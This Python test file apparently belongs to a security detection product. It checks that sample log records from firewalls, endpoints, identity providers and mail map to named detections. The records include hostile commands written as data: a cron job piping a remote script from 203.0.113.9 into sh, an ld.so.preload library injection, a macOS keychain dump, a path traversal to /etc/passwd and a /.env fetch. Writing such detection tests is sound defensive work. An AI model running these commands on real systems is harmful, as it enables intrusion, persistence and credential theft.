"""Our own detections on records as products write them: from the raw record through its mapping to the finding.

The cases inside a detection give the fields that a rule reads; these hold that a mapping brings them there.
"""

from __future__ import annotations

from typing import Any

import pytest

from watchfloor.detect import Detector
from watchfloor.ingest.normalizer import Normalizer
from watchfloor.ingest.trial import record_of

T = "2026-10-13T07:01:02Z"
FORTI = 'date=2026-10-13 time=07:01:02 devname="FG-1" devid="FGT1" type="event" subtype="system" level="information" '
SYSMON = {
    "Provider_Name": "Microsoft-Windows-Sysmon",
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "TimeCreated": T,
}
WINDOWS = {"Provider_Name": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "TimeCreated": T}
AUDITD = {"type": "EXECVE", "serial": "101", "timestamp": "1791874862.345", "program": "auditd", "message": "argc=3"}
SYSLOG = {"timestamp": "2026-10-13T07:01:02.000Z", "host": "web1", "program": "CRON"}
ZEEK = {
    "ts": 1791874862.0,
    "uid": "C1",
    "id.orig_h": "10.0.0.7",
    "id.orig_p": 50000,
    "id.resp_h": "10.0.0.9",
    "id.resp_p": 445,
}
ACCESS = '203.0.113.9 - - [13/Oct/2026:07:01:02 +0000] "GET {} HTTP/1.1" 200 12 "-" "curl/8"'
MAIL = {"message_id": "m1@x.example", "date": "2026-10-13T07:01:02.000Z", "to": ["bob@marlund.example"]}
AUDIT = {
    "id": "a1",
    "activityDateTime": T,
    "category": "Policy",
    "result": "success",
    "loggedByService": "Core Directory",
}
OKTA = {
    "uuid": "u1",
    "published": T,
    "actor": {"alternateId": "mallory@acme.example"},
    "outcome": {"result": "SUCCESS"},
}
ES = {"schema_version": 1, "mach_time": 5, "time": T, "event_type": 9, "action_type": 1}

CASES: dict[str, tuple[str, dict[str, Any]]] = {
    "Administrator added to a firewall": (
        "json",
        {
            "message": FORTI
            + 'logid="0100044547" user="admin" ui="GUI(203.0.113.5)" action="Add" cfgpath="system.admin" cfgobj="eve"'
        },
    ),
    "Administrator signed in to a firewall or gateway from the internet": (
        "json",
        {"message": FORTI + 'logid="0100032001" user="admin" ui="https(203.0.113.5)" action="login" status="success"'},
    ),
    "Firewall rule that lets everything through, or its log switched off": (
        "json",
        {
            "message": "Oct 13 2026 07:01:02 fw1 %ASA-5-111010: User 'admin', running 'CLI' from IP 10.0.0.9, "
            "executed 'access-list outside_in extended permit ip any any'"
        },
    ),
    "Path that climbs out of the web folder answered with success": (
        "json",
        {"message": ACCESS.format("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd")},
    ),
    "File with secrets fetched from a web server": ("json", {"message": ACCESS.format("/.env")}),
    "Program or script written into an administrative share of another machine": (
        "json",
        {**ZEEK, "_path": "smb_files", "action": "SMB::FILE_WRITE", "path": r"\\10.0.0.9\ADMIN$", "name": "x.exe"},
    ),
    "TLS certificate that control servers of attack tools present by default": (
        "json",
        {"_path": "x509", "ts": 1791874862.0, "fingerprint": "aa", "certificate.subject": "CN=Major Cobalt Strike"},
    ),
    "File on the wire that intelligence knows by its digest": (
        "json",
        {**ZEEK, "_path": "intel", "seen.indicator": "aa11", "seen.indicator_type": "Intel::FILE_HASH"},
    ),
    "Intelligence reports leaked credentials": (
        "json",
        {
            "type": "report",
            "id": "report--1",
            "created": T,
            "modified": T,
            "name": "x",
            "labels": ["leaked-credentials"],
        },
    ),
    "Intelligence reports a page or name that imitates a company": (
        "json",
        {"Event": {"uuid": "e1", "info": "Look-alike domain registered", "date": "2026-10-13", "Orgc": {"name": "x"}}},
    ),
    "Super administrator made in Okta": (
        "json",
        {
            **OKTA,
            "eventType": "user.account.privilege.grant",
            "legacyEventType": "x",
            "target": [],
            "debugContext": {"debugData": {"privilegeGranted": "Super administrator"}},
        },
    ),
    "Person reported a Duo prompt as not his own": (
        "json",
        {
            "event_type": "authentication",
            "isotimestamp": T,
            "txid": "t1",
            "factor": "duo_push",
            "result": "fraud",
            "reason": "user_marked_fraud",
            "application": {"name": "VPN"},
            "user": {"name": "alice"},
        },
    ),
    "Way around the second factor opened in Duo": (
        "json",
        {"action": "bypass_create", "isotimestamp": T, "timestamp": 1791874862, "username": "admin", "object": "bob"},
    ),
    "Conditional access policy switched off, deleted or narrowed": (
        "json",
        {
            **AUDIT,
            "activityDisplayName": "Delete conditional access policy",
            "targetResources": [{"displayName": "MFA"}],
            "initiatedBy": {"user": {"userPrincipalName": "mallory@acme.example"}},
        },
    ),
    "Sign-in by device code": (
        "json",
        {
            "id": "s1",
            "createdDateTime": T,
            "userPrincipalName": "bob@acme.example",
            "appDisplayName": "Office",
            "ipAddress": "203.0.113.5",
            "status": {"errorCode": 0},
            "authenticationProtocol": "deviceCode",
        },
    ),
    "Right to act as every mailbox given in Exchange": (
        "json",
        {
            "CreationTime": "2026-10-13T07:01:02",
            "Id": "1",
            "Operation": "New-ManagementRoleAssignment",
            "RecordType": 1,
            "UserType": 2,
            "Version": 1,
            "OrganizationId": "o1",
            "Workload": "Exchange",
            "UserId": "mallory@acme.example",
            "Parameters": [{"Name": "Role", "Value": "ApplicationImpersonation"}],
        },
    ),
    "Cron job that fetches something from the network or runs it from a temporary folder": (
        "syslog",
        {**SYSLOG, "message": "(root) CMD (curl -fsSL http://203.0.113.9/i.sh | sh)"},
    ),
    "Library set to be loaded into every program on Linux": (
        "syslog",
        {**AUDITD, "argc": "3", "a0": "bash", "a1": "-c", "a2": "echo /usr/lib/libx.so >> /etc/ld.so.preload"},
    ),
    "Keychain read out or copied on macOS": (
        "json",
        {
            **ES,
            "process": {"audit_token": {"pid": 400, "euid": 501}, "ppid": 1, "executable": {"path": "/bin/zsh"}},
            "event": {
                "exec": {
                    "target": {
                        "audit_token": {"pid": 401, "euid": 501},
                        "ppid": 400,
                        "executable": {"path": "/usr/bin/security"},
                    },
                    "args": ["security", "dump-keychain", "-d", "login.keychain"],
                }
            },
        },
    ),
    "Web server's process wrote a script that it can run": (
        "windows",
        {
            **SYSMON,
            "EventID": 11,
            "Image": r"C:\Windows\System32\inetsrv\w3wp.exe",
            "TargetFilename": r"C:\inetpub\wwwroot\a.aspx",
        },
    ),
    "Service made by command": (
        "windows",
        {
            **WINDOWS,
            "EventID": 4688,
            "NewProcessName": r"C:\Windows\System32\sc.exe",
            "CommandLine": 'sc create upd binPath= "C:\\Tools\\upd.exe"',
        },
    ),
    "Rights changed on the domain itself or on AdminSDHolder": (
        "windows",
        {
            **WINDOWS,
            "EventID": 5136,
            "ObjectDN": "CN=AdminSDHolder,CN=System,DC=a",
            "OperationType": "%%14674",
            "AttributeLDAPDisplayName": "nTSecurityDescriptor",
        },
    ),
    "Mail from a domain that looks like the recipient's own": ("mail", {**MAIL, "from": "it@rnarlund.example"}),
    "Shortcut, disk image or connection file attached": (
        "mail",
        {
            **MAIL,
            "from": "it@x.example",
            "attachments": [{"name": "Scan.one", "mime": "application/onenote", "size": 3}],
        },
    ),
}


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector.load()


@pytest.fixture(scope="module")
def normalizer() -> Normalizer:
    return Normalizer.shipped()


@pytest.mark.parametrize("title", CASES)
def test_a_record_becomes_the_finding(detector: Detector, normalizer: Normalizer, title: str) -> None:
    shape, record = CASES[title]
    event = normalizer.event(record_of(record, shape))
    found = {finding.detection.title for finding in detector.findings(event)}
    assert title in found, f"{event.mapping}, {event.logsource}: {found or 'nothing'}"
